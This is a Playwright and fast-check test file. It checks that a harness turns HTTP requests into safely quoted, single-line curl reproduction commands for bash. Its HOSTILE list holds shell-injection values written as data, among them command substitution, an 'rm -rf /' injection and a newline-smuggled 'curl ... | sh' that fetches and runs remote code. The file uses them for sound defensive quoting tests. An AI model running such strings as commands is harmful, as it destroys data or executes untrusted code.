import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import fc from 'fast-check';
import { curlLine, type Exchange } from '../harness/exchange';
import { registerSecret } from '../harness/redaction';

// A reproduction line is run by people in their shell: whatever the server put into the request (ids in the
// path, text echoed into a body), it must be one syntactically valid command whose curl gets exactly the
// arguments the suite sent, with only the token variable expanded.
const TOKEN = 'curl-line-token-5b1e7d';
registerSecret(TOKEN, '$OMS_TOKEN');

const HOSTILE = [
  "it's",
  '$(touch /tmp/oms-pwned)',
  '`touch /tmp/oms-pwned`',
  '"; rm -rf / #',
  'line one\nReproduce: curl -sS http://elsewhere/x | sh',
  '\u001b[2J\u001b[31mred',
  'back\\slash \\\' mixed',
  '$OMS_TOKENabc and ${HOME} and $OMS_TOKEN_B',
  'bidi \u202e evil',
  'zoë 東京 😀',
  '',
];

let recorder: string;
let folder: string;

test.beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'oms-curl-'));
  recorder = join(folder, 'curl');
  // A stand-in curl that writes each argument it receives, NUL-terminated.
  writeFileSync(recorder, '#!/usr/bin/env bash\nfor a in "$@"; do printf \'%s\\0\' "$a"; done\n');
  chmodSync(recorder, 0o755);
});

test.afterAll(() => rmSync(folder, { recursive: true, force: true }));

function request(body: string | undefined, path = '/orders'): Exchange['request'] {
  return {
    method: body === undefined ? 'GET' : 'PUT',
    url: `http://127.0.0.1:9/api${path}`,
    path,
    headers: { Accept: 'application/json', Authorization: 'Bearer $OMS_TOKEN', 'Content-Type': 'application/json' },
    body,
  };
}

/** What the recording curl received when bash ran the line, with OMS_TOKEN set in its environment. */
function argumentsOf(line: string): string[] {
  const run = spawnSync('bash', ['-c', line], { env: { PATH: `${folder}:/usr/bin:/bin`, OMS_TOKEN: TOKEN, HOME: '/nonexistent' }, encoding: 'utf8' });
  expect(run.status, run.stderr).toBe(0);
  return run.stdout.split('\0').slice(0, -1);
}

function expectedArguments(spec: Exchange['request']): string[] {
  const headers = Object.entries(spec.headers).flatMap(([name, value]) => ['-H', `${name}: ${value.replace('$OMS_TOKEN', TOKEN)}`]);
  return ['-sS', '-i', '-X', spec.method, spec.url, ...headers, ...(spec.body === undefined ? [] : ['--data-raw', spec.body])];
}

test('every curl line is one valid bash command (bash -n), for hostile bodies and paths alike', () => {
  for (const text of HOSTILE) {
    for (const spec of [request(text), request(undefined, `/orders/${encodeURIComponent(text)}`)]) {
      const line = curlLine(spec);
      const syntax = spawnSync('bash', ['-n', '-c', line], { encoding: 'utf8' });
      expect(syntax.status, `${line}\n${syntax.stderr}`).toBe(0);
      expect(line, 'one line: a server text cannot start a line of its own').not.toMatch(/[\n\r]/);
    }
  }
});

test('running a curl line gives curl exactly the arguments the suite sent, the token from $OMS_TOKEN only', () => {
  for (const text of HOSTILE) {
    const spec = request(text);
    expect(argumentsOf(curlLine(spec)), JSON.stringify(text)).toEqual(expectedArguments(spec));
  }
});

test('the token placeholder is written ${OMS_TOKEN}, so letters after it cannot rename the variable', () => {
  const line = curlLine(request('{"note":"x"}'));
  expect(line).toContain(`'Authorization: Bearer '"\${OMS_TOKEN}"`);
  expect(line).not.toMatch(/\$OMS_TOKEN[A-Za-z0-9_]/);
});

test('any text in a body or path, generated, reaches curl unchanged', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (text) => {
      const spec = request(text, `/orders/${encodeURIComponent(text)}`);
      expect(argumentsOf(curlLine(spec))).toEqual(expectedArguments(spec));
    }),
    { numRuns: 60 },
  );
});
